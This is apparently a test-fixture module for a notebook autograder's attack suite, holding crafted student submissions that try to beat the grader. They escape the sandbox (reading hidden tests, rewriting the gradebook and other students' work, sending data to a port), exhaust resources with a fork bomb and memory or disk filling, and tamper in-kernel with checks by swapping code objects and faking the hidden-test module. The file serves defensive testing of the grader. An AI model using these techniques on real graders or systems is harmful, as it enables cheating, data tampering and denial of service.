"""Submissions that attack the grader, for the attack suite (``tests/grading/test_attacks.py``).

Each is correct where it says it is and does something an instructor fears on top: escape the sandbox
(read the hidden tests, write the gradebook, rewrite another student's work, reach the grading
machine's network, fork-bomb, exhaust memory or disk, flood the output), hand a question to the
lab's reference code in many spellings, or answer wrongly and then tamper with the checks inside the
kernel. Each must score exactly what its honest answers earn.
"""

from __future__ import annotations

from grading.golden import Crafted

NB1, NB2, NB3, NB4 = (
    "1_data_and_transforms.ipynb",
    "2_embeddings.ipynb",
    "3_spark_lsh.ipynb",
    "4_nearest_neighbors.ipynb",
)

#: Prints one line "ATTACK <name> <outcome>" per attempt; the test reads them and checks the world outside.
ESCAPES = r"""
import json, os, pathlib, socket, sqlite3
import helpers
guesses = [pathlib.Path(helpers.__file__).parents[1],  # the repository the lab's package comes from
           pathlib.Path.cwd().parents[2],              # <course>/autograded/<student>/lab5 in nbgrader's layout
           pathlib.Path(COURSE)]                       # the real course directory, as if the student knew it
me = pathlib.Path.cwd().parent.name

def attempt(name, action):
    try:
        print("ATTACK", name, "succeeded:", json.dumps(action())[:200])
    except BaseException as error:
        print("ATTACK", name, "failed:", type(error).__name__)

def everywhere(pattern):
    return [path for root in guesses for path in root.glob(pattern)]

attempt("read-source", lambda: [p.read_text()[:100] for p in everywhere("source/lab5/*.ipynb")] or 1 / 0)
attempt("write-gradebook", lambda: [sqlite3.connect(f"file:{p}?mode=rw", uri=True)
                                    .execute("UPDATE grade SET manual_score = 0").rowcount
                                    for p in everywhere("gradebook.db")] or 1 / 0)
attempt("rewrite-other-submission", lambda: [p.write_text("{}") for p in everywhere("*/*/lab5/*.ipynb")
                                             if me not in p.parts] or 1 / 0)
attempt("network", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(b"stolen"))
attempt("memory-30GB", lambda: len(bytearray(30 * 2**30)))
attempt("disk-3GB", lambda: [open("lab5_work/filler.bin", "ab").write(b"\0" * 2**20) for _ in range(3 * 1024)] and 0)
attempt("tmp-3GB", lambda: [open("/tmp/filler.bin", "ab").write(b"\0" * 2**20) for _ in range(3 * 1024)] and 0)
""".strip()
FLOOD = 'for _ in range(100):\n    print("x" * 1_000_000)  # 100 MB of output'
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"


def escapes(port: int, course: str) -> Crafted:
    """Correct notebooks 1 and 2 plus, after notebook 1's test, every escape attempt, a flood and a fork bomb.

    ``port``: where the test listens on the grading machine's loopback; ``course``: the real course folder.
    """
    code = ESCAPES.replace("PORT", str(port)).replace("COURSE", repr(course))
    return Crafted(added={NB1: (code, FLOOD, FORK_BOMB)}, notebooks=(NB1, NB2))


#: Shortcuts to the reference code, spelled in as many ways as possible; the honest answers around
#: them (including ones that only mention helpers in a comment) keep their points.
SHORTCUTS = {
    "shortcuts_a": Crafted(
        answers={
            "q1_answer": "# The lab's helpers.transforms.resize_folder would do this, but it is mine to write.\n"
            "from helpers.transforms import resize_folder as make_thumbnails  # an alias\n"
            "make_thumbnails(LAB.image_names, LAB.image_dir, LAB.resized_dir)\n",
            "q3_answer": "import importlib\n"
            "reference = getattr(importlib.import_module('helpers.' + 'lab'), 'reference_' + 'embeddings')\n"
            "names, vectors = reference(LAB)  # a module and a name built from strings\n",
            "q6_answer": "exec('from helpers.spark import assemble\\nassembled = assemble(df)')  # through exec\n",
            "q10_answer": "query_vector = __import__('helpers.spark', fromlist=['x']).vector_of(hashed, query_image)\n",
            "q12_answer": "from helpers.display import show_neighbors\n"
            "fig = show_neighbors(query_image, neighbors.toPandas().rename(columns={'distCol': 'distance'}),\n"
            "                     LAB.image_dir, CAPTIONS)\n",
        },
        loses=(
            "q1_resize_224_jpeg",
            "q3_all_embeddings",
            "q6_features_vector",
            "q10_query_vector",
            "q12_neighbor_figure",
        ),
        says={
            "q1_resize_224_jpeg": "resize_folder",
            "q3_all_embeddings": "reference_embeddings",
            "q6_features_vector": "assemble",
            "q10_query_vector": "vector_of",
            "q12_neighbor_figure": "show_neighbors",
        },
    ),
    "shortcuts_b": Crafted(
        answers={
            "q1_answer": "import subprocess, sys  # in another process\n"
            "code = ('from helpers import lab, transforms; run = lab.setup(); '\n"
            "        'transforms.resize_folder(run.image_names, run.image_dir, run.resized_dir)')\n"
            "subprocess.run([sys.executable, '-c', code], check=True)\n",
            "q2_answer": "from helpers.embedder import *  # a star import, and a subclass inheriting the work\n"
            "class C(Embedder):\n"
            "    def __init__(self, model):\n"
            "        super().__init__('resnet18', model=model, precision='fp32')\n",
            "q7_answer": "import threading  # in a thread\n"
            "found = {}\n"
            "worker = threading.Thread(target=lambda: found.update(model=__import__('helpers.spark', fromlist=['x'])\n"
            "                          .fit_lsh(assembled)))\n"
            "worker.start()\n"
            "worker.join()\n"
            "model = found['model']\n",
            "q11_answer": "from helpers import spark as s\n"
            "found = s.nearest_neighbors(model, hashed, query_vector, 5)\n"
            "neighbors = spark.createDataFrame(found.rename(columns={'distance': 'distCol'}))\n",
        },
        loses=("q1_resize_224_jpeg", "q2_class_c_get_vec", "q7_brp_model", "q11_five_nearest_neighbors"),
        says={
            "q1_resize_224_jpeg": "resize_folder",
            "q2_class_c_get_vec": "Embedder",
            "q7_brp_model": "fit_lsh",
            "q11_five_nearest_neighbors": "nearest_neighbors",
        },
    ),
}

#: Wrong answers that then tamper with what checks them inside the kernel; each must score 0 there.
TAMPERING = Crafted(
    answers={
        "q1_answer": "resize = T.Compose([T.Resize(224), T.CenterCrop(224)])  # wrong: crops\n"
        "LAB.resized_dir.mkdir(parents=True, exist_ok=True)\n"
        "for name in LAB.image_names:\n"
        "    with Image.open(LAB.image_dir / name) as image:\n"
        "        resize(image.convert('RGB')).save(LAB.resized_dir / name, format='JPEG', quality=95)\n"
        "import helpers.lab  # swap the check's code object\n"
        "helpers.lab.resized_problems.__code__ = (lambda folder, lab: []).__code__\n",
        "q3_answer": "embedder = C(resnet)\n"
        "names = list(LAB.image_names)\n"
        "vectors = np.stack([embedder.get_vec(Image.open(INPUT_DIR / n)) for n in reversed(names)])  # misaligned\n"
        "import helpers.vectors  # loosen the comparison through its defaults, and numpy\n"
        "helpers.vectors.same_vectors.__defaults__ = (-2.0,)\n"
        "np.allclose = lambda *args, **kwargs: True\n",
        "q8_answer": "hashed = model.transform(assembled.limit(10))  # wrong: 10 of the images\n"
        "import sys, types  # replace the hidden tests' module, and swallow every error\n"
        "fake = types.ModuleType('grading.hidden')\n"
        "fake.check = lambda *args, **kwargs: types.SimpleNamespace(passed=True, message='')\n"
        "sys.modules['grading.hidden'] = fake\n"
        "sys.modules['grading'].hidden = fake\n"
        "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n",
        "q12_answer": "fig, axes = plt.subplots(1, 5)\n"
        "for axis in axes:  # wrong: the query five times\n"
        "    axis.imshow(Image.open(LAB.image_dir / query_image).convert('RGB'))\n"
        "# and from now on every test cell does nothing\n"
        "silence = lambda lines: ['pass\\n'] if any('_checks' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(silence)\n",
    },
    loses=("q1_resize_224_jpeg", "q3_all_embeddings", "q8_hashed_dataframe", "q12_neighbor_figure"),
)


def _edit_tests(notebooks: dict) -> None:
    """Q1's test replaced by `pass`, Q4's test deleted: nbgrader must restore both."""
    from grading.course import grade_id

    for cell in notebooks[NB1].cells:
        if grade_id(cell) == "q1_resize_224_jpeg":
            cell.source = '"""Q1 always passes."""\npass'
    notebooks[NB2].cells = [cell for cell in notebooks[NB2].cells if grade_id(cell) != "q4_embeddings_csv"]


def _rename_first(notebooks: dict) -> None:
    notebooks[NB1.replace(".ipynb", " (1).ipynb")] = notebooks.pop(NB1)


#: Code that misbehaves without attacking: each costs only its own question, and the notebooks after
#: it are graded as usual. Notebooks 1 and 2 are enough to show it.
MISBEHAVING = {
    "infinite_loop": Crafted(
        answers={"q1_answer": "while True:\n    pass\n"}, notebooks=(NB1, NB2), loses=("q1_resize_224_jpeg",)
    ),
    "kernel_dies": Crafted(
        answers={"q3_answer": "import os\nos._exit(1)\n"},
        notebooks=(NB1, NB2),
        loses=("q3_all_embeddings", "q4_embeddings_csv"),
    ),  # Q4 stores Q3's lost vectors
    "crash_and_oom": Crafted(
        answers={
            "q1_answer": "import ctypes\nctypes.string_at(0)  # a segmentation fault\n",
            "q4_answer": "huge = bytearray(1 << 50)  # a petabyte\n",
        },
        notebooks=(NB1, NB2),
        loses=("q1_resize_224_jpeg", "q4_embeddings_csv"),
    ),
    "edited_tests": Crafted(
        answers={"q1_answer": TAMPERING.answers["q1_answer"].split("import helpers")[0]},
        notebooks=(NB1, NB2),
        loses=("q1_resize_224_jpeg",),
        edit=_edit_tests,
    ),
    "renamed_and_missing": Crafted(notebooks=(NB1, NB2), loses=("q1_resize_224_jpeg",), edit=_rename_first),
}
